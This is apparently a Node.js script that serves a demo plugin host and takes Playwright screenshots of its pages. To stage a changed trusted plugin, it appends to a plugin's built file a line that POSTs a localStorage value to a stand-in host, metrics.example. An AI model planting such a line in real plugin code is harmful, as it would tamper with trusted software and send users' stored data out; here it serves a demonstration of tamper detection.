import { execFile } from 'node:child_process';
import { appendFile, cp, mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { chromium } from '@playwright/test';
import { buildDemo, builtInPlugins, hostFolder, root } from '../fixtures/host/build.js';
import { getBrowser } from './browser.js';
import { findOnPath } from './system.js';

// `npm run screenshots -- review` takes the pictures whose name contains "review".

/** @typedef {import('@playwright/test').Page} Page */
/**
 * A picture: its file, the window, and how the page comes to what it shows.
 * @typedef {{ file: string, width: 1280 | 390, height: number, theme: 'light' | 'dark', path: string, prepare?: (page: Page) => Promise<unknown> }} Picture
 */

/** The plugins of the pictures. The others of `fixtures/plugins` are for tests. */
const PLUGINS = ['service-desk', 'stock-room', 'break-out', 'palette'];

/** @type {Picture[]} */
const PICTURES = [
  {
    file: 'fixtures/host/demo.png',
    width: 1280,
    height: 900,
    theme: 'light',
    path: '/plugin/service-desk/overview',
  },
  {
    file: 'fixtures/host/pictures/overview.png',
    width: 1280,
    height: 800,
    theme: 'light',
    path: '/',
  },
];

/**
 * Makes a file smaller by a palette, if this machine has the tool.
 * @param {string} file
 */
async function shrink(file) {
  const tool = findOnPath(['pngquant']);
  if (!tool) return console.warn('pngquant is not installed, so the pictures are larger.');
  await promisify(execFile)(tool, ['--force', '--strip', '--speed', '1', '--output', file, '256', file]);
}

/** Serves the demo with trusted, sandboxed, waiting and changed plugins. @param {string} folder */
async function serve(folder) {
  const plugins = join(folder, 'plugins');
  for (const id of PLUGINS) await cp(join(builtInPlugins, id), join(plugins, id), { recursive: true });
  const { serveHost } = await import('#dev');
  const app = hostFolder({ react: 19 });
  const host = await serveHost({ plugins, data: join(folder, 'data'), app, startDatabase: true });
  /** @param {string} id @param {'trust' | 'sandbox'} verdict */
  const decide = async (id, verdict) => {
    const response = await fetch(new URL(`/api/plugins/${id}/${verdict}-frontend`, host.url), {
      method: 'POST',
    });
    if (!response.ok) throw new Error(`${id}: HTTP ${response.status}`);
  };
  await decide('service-desk', 'trust');
  await decide('stock-room', 'trust');
  // An update that asks for more than the trusted version.
  await appendFile(
    join(plugins, 'stock-room/widget/dist/Tally.js'),
    `\nfetch('https://metrics.example/stock', { method: 'POST', body: localStorage.getItem('shelf') });\n`,
  );
  return host;
}

/** @param {import('@playwright/test').Browser} browser @param {string} url @param {Picture} picture */
async function take(browser, url, { file, width, height, theme, path, prepare }) {
  const page = await browser.newPage({
    viewport: { width, height },
    colorScheme: theme,
    reducedMotion: 'reduce',
    // A phone has more pixels, and the picture is shown small.
    deviceScaleFactor: width === 390 ? 2 : 1,
  });
  await page.goto(new URL(path, url).href, { waitUntil: 'networkidle' });
  await prepare?.(page);
  await page.waitForLoadState('networkidle');
  const target = join(root, file);
  await mkdir(dirname(target), { recursive: true });
  await page.screenshot({ path: target, animations: 'disabled' });
  await page.close();
  await shrink(target);
  console.log(file);
}

const [part = ''] = process.argv.slice(2);
const folder = await mkdtemp(join(tmpdir(), 'nousviz-'));
await buildDemo({ react: 19, report: console.error });
const host = await serve(folder);
const browser = await chromium.launch({
  executablePath: getBrowser('chromium'),
  args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
});
try {
  for (const picture of PICTURES) if (picture.file.includes(part)) await take(browser, host.url, picture);
} finally {
  await browser.close();
  await host.close();
  await rm(folder, { recursive: true });
}
